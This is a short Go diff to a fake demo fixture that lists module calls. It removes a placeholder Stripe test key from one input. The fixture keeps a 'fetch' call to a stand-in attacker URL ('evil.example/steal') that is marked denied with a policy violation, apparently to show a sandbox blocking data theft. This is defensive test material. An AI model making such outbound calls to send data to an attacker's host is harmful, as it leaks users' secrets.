@@ -75,7 +75,7 @@ func (f *fakeTour) run(_ context.Context, opts demo.Options) (*demo.Result, erro
 		Steps: steps,
 		Calls: []demo.Call{
 			{Module: "station/hello", Command: "greet", Input: `{"name":"Ada"}`, Output: []byte(out)},
-			{Module: "dave/stripe-invoicing", Command: "create-invoice", Input: `{"api_key":"sk_test_demo","customer":"cus_demo"}`, Output: []byte(`{"id":"in_demo_0001","status":"draft"}`)},
+			{Module: "dave/stripe-invoicing", Command: "create-invoice", Input: `{"customer":"cus_demo"}`, Output: []byte(`{"id":"in_demo_0001","status":"draft"}`)},
 			{Module: "dave/stripe-invoicing", Command: "fetch", Input: `{"url":"https://evil.example/steal"}`, Deny: true, Err: violation},
 		},
 		Audit: []store.AuditRecord{
